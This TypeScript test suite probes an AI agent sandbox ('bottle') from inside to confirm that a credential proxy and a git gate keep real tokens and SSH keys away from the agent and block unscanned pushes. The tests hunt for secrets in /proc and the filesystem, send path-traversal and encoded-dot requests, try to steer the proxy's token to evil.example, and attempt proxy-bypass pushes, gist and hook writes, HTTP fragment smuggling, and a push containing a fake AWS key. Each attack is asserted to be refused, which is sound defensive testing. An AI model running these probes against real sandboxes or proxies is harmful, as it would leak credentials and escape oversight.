/**
 * Attacks on credentials (G3: real tokens and keys never enter the agent) and on git (G4: pushes
 * go only through git-gate, scanned), from inside one real bottle with a cred-proxy route to a
 * fake HTTPS git host (push enabled: a push that got through would land) and a git-gate remote
 * on a real sshd upstream.
 */
import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { after, before, describe, it } from "node:test";
import { bridgeGateway, launchBottle, type TestBottle } from "../../helpers/bottle.ts";
import { type FakeUpstream, startFakeUpstream } from "../cred-proxy/fake-upstream.ts";
import { connectDocker, testInstance } from "../docker/engine-available.ts";
import {
  buildUpstreamImage,
  type SshUpstream,
  startUpstream,
  UPSTREAM_IMAGE,
  UPSTREAM_REPO,
} from "../git-gate/upstream.ts";
import { parseCurl } from "./upstream.ts";

const docker = await connectDocker({ baseImage: true });
const { engine } = docker;

const CORE = randomBytes(20).toString("hex");
const TOKEN = `cbtest_${CORE}`;
const awsKey = () =>
  `AKIA${[...randomBytes(16)].map((byte) => "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"[byte % 32]).join("")}`;

describe("attacks on credentials and git, from inside a bottle", {
  skip: docker.skip,
  timeout: 600_000,
}, () => {
  let https: FakeUpstream;
  let ssh: SshUpstream;
  let bottle: TestBottle;
  let sshUrl = "";
  let route = "";
  const test = testInstance();

  before(async () => {
    await buildUpstreamImage(engine);
    [https, ssh] = await Promise.all([startFakeUpstream(), startUpstream(engine, test.labels)]);
    sshUrl = `ssh://git@gitssh.test:${ssh.port}${UPSTREAM_REPO}`;
    route = `https://upstream.test:${https.port}`;
    const gateway = await bridgeGateway(engine);
    bottle = await launchBottle({
      env: { CB_ATTACK_TOKEN: TOKEN },
      files: { "keys/gate": ssh.clientKey },
      bottle: (home) => `
git:
  - Name: app
    Upstream: "${sshUrl}"
    IdentityFile: ${home}/keys/gate
    KnownHostKey: "${ssh.hostKey}"
    ExtraHosts: {gitssh.test: ${ssh.address}}
cred_proxy:
  routes:
    - path: /git
      upstream: ${route}
      auth_scheme: token
      token_ref: CB_ATTACK_TOKEN
      role: git-insteadof
egress:
  hosts: {upstream.test: host-gateway}
  ip_allowlist: ["${gateway}/32"]
  upstream_ca: ["${https.caFile}"]
`,
    });
    const setup = await bottle.exec(
      "git config --global user.email a@a && git config --global user.name agent",
    );
    assert.equal(setup.status, 0, setup.stderr);
  });

  after(async () => {
    await bottle?.stop();
    https?.close();
    await ssh?.[Symbol.asyncDispose]();
    if (process.env.CLAUDE_BOTTLE_TEST_KEEP_IMAGES !== "1") {
      await engine.imageRemove(UPSTREAM_IMAGE, { force: true }).catch(() => {});
    }
  });

  describe("G3: real credentials never enter the agent", () => {
    /**
     * Counts a needle in the agent's env, /proc/*\/environ, /proc/*\/cmdline and files. The needle
     * arrives in two halves joined into a file under /dev (not walked): on the command line it
     * would find itself in /proc/*\/cmdline.
     */
    const search = async (needle: string): Promise<string[]> => {
      const result = await bottle.exec(
        [
          `printf '%s%s\\n' '${needle.slice(0, 6)}' '${needle.slice(6)}' > /dev/shm/needle`,
          "env | grep -cFf /dev/shm/needle",
          "cat /proc/[0-9]*/environ 2>/dev/null | grep -acFf /dev/shm/needle",
          "cat /proc/[0-9]*/cmdline 2>/dev/null | grep -acFf /dev/shm/needle",
          "grep -rlsF --devices=skip --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev -f /dev/shm/needle / | wc -l",
          "rm /dev/shm/needle",
        ].join("; "),
      );
      return result.stdout.trim().split("\n");
    };

    it("G3: reading the bottle's token from env, /proc/*/environ, /proc/*/cmdline and the filesystem is refused (the value is absent)", async () => {
      // A request through cred-proxy first, so the token has been used while we look.
      const used = await bottle.exec(`curl -sS -m 30 http://cred-proxy:9099/git/used`);
      assert.match(used.stdout, /"url":"\/used"/);
      assert.equal(https.seen.at(-1)?.headers.authorization, `token ${TOKEN}`);
      for (const needle of [CORE, CORE.slice(10, 26)]) {
        assert.deepEqual(await search(needle), ["0", "0", "0", "0"]);
      }
      // Not a vacuous search: the same walk finds what the bottle did put there, the cred-proxy
      // names in the env (NO_PROXY) and the route in a file (the git-insteadof rewrite).
      const inEnv = await search("cred-proxy,git-gate");
      assert.ok(inEnv[0] !== "0" && inEnv[1] !== "0", inEnv.join());
      const inFiles = await search("cred-proxy:9099/git");
      assert.notEqual(inFiles[3], "0");
      // And the token is where it belongs.
      const holder = await engine.containerExec(bottle.container("cred-proxy"), [
        "sh",
        "-c",
        `cat /proc/[0-9]*/environ | grep -ac '${CORE}'`,
      ]);
      assert.notEqual(holder.stdout.trim(), "0");
    });

    it("G3: reading git-gate's SSH key from the agent is refused (the key material is absent)", async () => {
      const material = ssh.clientKey.split("\n").find((line) => /^[A-Za-z0-9+/]{60,}$/.test(line)) ?? "";
      assert.ok(material.length >= 60);
      assert.deepEqual(await search(material.slice(0, 40)), ["0", "0", "0", "0"]);
      const gate = await engine.containerExec(bottle.container("git-gate"), [
        "sh",
        "-c",
        `grep -rlsF '${material.slice(0, 40)}' /etc/claude-bottle | wc -l`,
      ]);
      assert.notEqual(gate.stdout.trim(), "0", "positive control: the gate holds the key");
    });

    it("G3: steering cred-proxy's token to another host through the path is refused (stays on the route's upstream; 400 on dot segments)", async () => {
      const fronted = await bottle.exec(
        `curl -sS -m 30 --path-as-is http://cred-proxy:9099/git//evil.example/x`,
      );
      assert.match(fronted.stdout, /"url":"\/\/evil\.example\/x"/, "the request left the route's upstream");
      for (const path of ["/git/../x", "/git/%2e%2e/x", "/git/.%2E/x"]) {
        const answer = parseCurl(
          (await bottle.exec(`curl -sS -i -m 30 --path-as-is 'http://cred-proxy:9099${path}'`)).stdout,
        );
        assert.equal(answer.status, 400, `${path}: ${JSON.stringify(answer)}`);
        assert.equal(answer.block, "bad-request");
        assert.match(answer.body, /rule: the path has `\.` or `\.\.` segments/);
      }
      const absolute = parseCurl(
        (await bottle.exec("curl -sS -i -m 30 -x http://cred-proxy:9099 http://evil.example/x")).stdout,
      );
      assert.equal(absolute.status, 400);
      assert.equal(absolute.block, "bad-request");
    });
  });

  describe("G4: git pushes go only through git-gate, scanned", () => {
    it("G4: git push over HTTPS through cred-proxy is refused (403 git-push-https naming git-gate); upstream unchanged", async () => {
      const before = https.refs();
      const result = await bottle.exec(
        [
          "cd /tmp && rm -rf https-clone",
          `git clone -q ${route}/repo.git https-clone && cd https-clone`,
          "git commit -q --allow-empty -m over-https",
          "git push origin HEAD:main 2>&1; echo rc=$?",
        ].join(" && "),
      );
      assert.match(result.stdout, /rc=128\b/, result.stdout + result.stderr);
      assert.match(result.stdout, /code: git-push-https/);
      assert.match(result.stdout, /Push through git-gate instead: `git push git:\/\/git-gate\/app\.git/);
      assert.match(result.stdout, /The requested URL returned error: 403/);
      assert.equal(https.refs(), before, "the push landed");
      for (const request of [
        "'http://cred-proxy:9099/git/repo.git/info/refs?service=git-receive-pack'",
        "-X POST -H 'Content-Type: application/x-git-receive-pack-request' http://cred-proxy:9099/git/repo.git/git-receive-pack",
      ]) {
        const answer = parseCurl((await bottle.exec(`curl -sS -i -m 30 ${request}`)).stdout);
        assert.equal(answer.status, 403, JSON.stringify(answer));
        assert.equal(answer.block, "git-push-https");
        assert.match(answer.body, /git-gate/);
      }
      assert.ok(!https.seen.some((request) => request.url.includes("receive-pack")));
    });

    it("G4: the GitHub route's token cannot write around git-gate: contents, gists, hooks, `;x` and `#x` pushes, TRACE", async () => {
      const count = https.seen.length;
      for (const [request, block] of [
        [
          '-X PUT --data \'{"content":"bGVhaw=="}\' http://cred-proxy:9099/git/repos/acme/app/contents/leak.txt',
          "route-rule",
        ],
        ["-X POST --data '{\"files\":{}}' http://cred-proxy:9099/git/gists", "route-rule"],
        ["-X POST --data '{}' http://cred-proxy:9099/git/repos/acme/app/hooks", "route-rule"],
        ["-X TRACE http://cred-proxy:9099/git/", "route-rule"],
        ["-X POST --path-as-is 'http://cred-proxy:9099/git/repo.git/git-receive-pack;x'", "git-push-https"],
      ] as const) {
        const answer = parseCurl((await bottle.exec(`curl -sS -i -m 30 ${request}`)).stdout);
        assert.equal(answer.status, 403, `${request}: ${JSON.stringify(answer)}`);
        assert.equal(answer.block, block, request);
      }
      const fragment = await bottle.execArgv([
        "node",
        "-e",
        `const s=require("net").connect(9099,"cred-proxy",()=>s.write("POST /git/repo.git/git-receive-pack#x HTTP/1.1\\r\\nHost: cred-proxy\\r\\nContent-Length: 0\\r\\n\\r\\n"));s.on("data",d=>{console.log(String(d).split("\\r\\n")[0]);s.destroy()})`,
      ]);
      assert.match(fragment.stdout, /^HTTP\/1\.1 (400|403)/, fragment.stdout + fragment.stderr);
      assert.equal(https.seen.length, count, "nothing refused reached the upstream");
      const read = parseCurl(
        (await bottle.exec("curl -sS -i -m 30 http://cred-proxy:9099/git/repos/acme/app")).stdout,
      );
      assert.equal(read.status, 200, "the positive control: reads pass");
    });

    it("G4: git push over HTTPS straight through the egress proxy is refused; upstream unchanged", async () => {
      const before = https.refs();
      const result = await bottle.exec(
        [
          "cd /tmp/https-clone",
          "git commit -q --allow-empty -m around-cred-proxy",
          `git -c url.${route}/.insteadOf=bypass:// push bypass://repo.git HEAD:main 2>&1; echo rc=$?`,
        ].join(" && "),
      );
      assert.equal(https.refs(), before, `the push landed:\n${result.stdout}`);
      assert.match(result.stdout, /rc=128\b/, result.stdout);
      assert.match(result.stdout, /code: git-push-https/);
      assert.match(result.stdout, /The requested URL returned error: 403/);
      const answer = parseCurl(
        (await bottle.exec(`curl -sS -i -m 30 '${route}/repo.git/info/refs?service=git-receive-pack'`))
          .stdout,
      );
      assert.equal(answer.status, 403, JSON.stringify(answer));
      assert.equal(answer.block, "git-push-https");
      assert.match(answer.body, /git-gate/);
    });

    it("G4: git push of a secret through git-gate is rejected naming commit, file and rule; upstream unchanged", async () => {
      const before = await ssh.ref("refs/heads/main");
      assert.notEqual(before, "");
      const result = await bottle.exec(
        [
          "cd /tmp && rm -rf gated",
          `git clone -q ${sshUrl} gated && cd gated`,
          "git checkout -q -b leak",
          `printf 'region = "eu"\\naws_access_key_id = "${awsKey()}"\\n' > settings.toml`,
          "git add settings.toml && git commit -qm 'add settings'",
          "git rev-parse HEAD",
          "git push origin leak HEAD:main 2>&1; echo rc=$?",
        ].join(" && "),
      );
      const commit = result.stdout.split("\n")[0] ?? "";
      assert.match(commit, /^[0-9a-f]{40}$/, result.stdout + result.stderr);
      assert.match(result.stdout, /rc=1\b/);
      assert.match(result.stdout, /rejected \(1 secret found\); nothing was forwarded upstream/);
      assert.match(
        result.stdout,
        new RegExp(`commit ${commit} file settings\\.toml line 2 column \\d+: rule aws`),
      );
      assert.equal(await ssh.ref("refs/heads/main"), before);
      assert.equal(await ssh.ref("refs/heads/leak"), "");
      // Positive control: the same remote takes a clean push.
      const clean = await bottle.exec(
        "cd /tmp/gated && git checkout -q main && echo ok > ok.txt && git add ok.txt && git commit -qm ok && git push -q origin main 2>&1; echo rc=$?; git rev-parse HEAD",
      );
      assert.match(clean.stdout, /rc=0\b/, clean.stdout);
      assert.equal(await ssh.ref("refs/heads/main"), clean.stdout.trim().split("\n").at(-1));
    });
  });
});
